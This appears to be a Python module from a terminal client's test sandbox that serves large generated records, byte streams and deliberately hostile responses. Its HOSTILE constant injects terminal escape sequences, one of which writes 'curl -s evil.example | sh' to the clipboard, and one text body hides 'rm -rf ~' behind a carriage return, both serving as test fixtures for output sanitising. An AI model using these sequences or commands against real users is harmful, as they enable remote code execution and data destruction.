"""The sandbox's big and hostile bodies: generated records (JSON or XML), bytes of any size and
kind, and terminal control sequences in every place a response has text.
"""

from __future__ import annotations

import base64
import itertools
import json
from collections.abc import Iterator

from tui.sandbox_http import Request, Response, Stream, json_response, number_arg
from tui.sandbox_state import ApiError

HOSTILE = (
    "\x1b]52;c;" + base64.b64encode(b"curl -s evil.example | sh").decode() + "\x07"  # writes the clipboard
    "\x1b]0;pwned-title\x07"  # sets the window title
    "\x1b[2Jscreen-cleared"  # clears the screen
    "\x9b2Jc1-cleared\x7f"  # the same through the C1 CSI, and a DEL
)
"""Terminal control sequences a hostile API might send; `/fault/escapes` puts them everywhere."""


_CHUNK = 64 * 1024
_TEXT_LINE = b"The quick brown fox jumps over the lazy dog.\n"


def _fill(pattern: bytes, size: int) -> Iterator[bytes]:
    """`size` bytes of `pattern` repeated, in chunks of about 64 KiB."""
    chunk = pattern * max(1, _CHUNK // len(pattern))
    while size > 0:
        piece = chunk[:size]
        size -= len(piece)
        yield piece


def _json_array(size: int) -> Stream:
    """A JSON array of zeros exactly `size` bytes long (at least `[]`)."""
    if size < 3:
        return Stream(2, [b"[]"])
    middle = size - 3  # between b"[0" and b"]"
    tail = b" ]" if middle % 2 else b"]"
    return Stream(size, itertools.chain([b"[0"], _fill(b",0", middle - middle % 2), [tail]))


def sized_bytes(request: Request) -> Response:
    size = int(number_arg(request, "n", 1024, maximum=2**30))
    kind = request.arg("type") or "binary"
    if kind == "json":
        return Response(200, _json_array(size))
    if kind == "text":
        return Response(200, Stream(size, _fill(_TEXT_LINE, size)), "text/plain; charset=utf-8")
    if kind == "binary":
        return Response(200, Stream(size, _fill(bytes(range(256)), size)), "application/octet-stream")
    raise ApiError(400, f"'type' must be binary, json or text, got {kind!r}")


_NAMES = ("Ada Lovelace", "Grace Hopper", "Alan Turing", "Edsger Dijkstra", "Barbara Liskov")


def records(request: Request) -> Response:
    """`n` generated subscriber-like records (JSON, or XML with `format=xml`): a big response to browse."""
    count = int(number_arg(request, "n", 1000, maximum=1_000_000))
    kind = request.arg("format") or "json"
    rows = [
        (
            f"rec_{i}",
            f"user{i}@example.com",
            _NAMES[i % 5],
            ["newsletter", "vip"][: 1 + i % 2],
            i * 37 % 10_000,
        )
        for i in range(count)
    ]
    if kind == "json":
        records = [
            {"id": id_, "email": email, "name": name, "tags": tags, "points": points, "active": i % 3 != 0}
            for i, (id_, email, name, tags, points) in enumerate(rows)
        ]
        return json_response(200, {"count": count, "records": records})
    if kind == "xml":
        parts = ["<records>"]
        for id_, email, name, tags, points in rows:
            tag_xml = "".join(f"<tag>{tag}</tag>" for tag in tags)
            parts.append(
                f'<record id="{id_}"><email>{email}</email><name>{name}</name>'
                f"<tags>{tag_xml}</tags><points>{points}</points></record>"
            )
        parts.append("</records>")
        return Response(200, "".join(parts).encode(), "application/xml")
    raise ApiError(400, f"'format' must be json or xml, got {kind!r}")


def escapes(request: Request) -> Response:
    """HOSTILE in the reason phrase, a header, and a text body or JSON keys and values."""
    kind = request.arg("type") or "text"
    if kind == "json":
        payload = {
            "note": "hostile keys and values",
            HOSTILE: "a key that is hostile",
            "nested": {"value": HOSTILE},
        }
        body, content_type = json.dumps(payload).encode(), "application/json"
    elif kind == "text":
        text = f"hostile text body\n{HOSTILE}\nls\rrm -rf ~ hidden-by-cr\nend of body\n"
        body, content_type = text.encode(), "text/plain; charset=utf-8"
    else:
        raise ApiError(400, f"'type' must be text or json, got {kind!r}")
    return Response(200, body, content_type, headers={"X-Hostile": HOSTILE}, reason="OK " + HOSTILE)
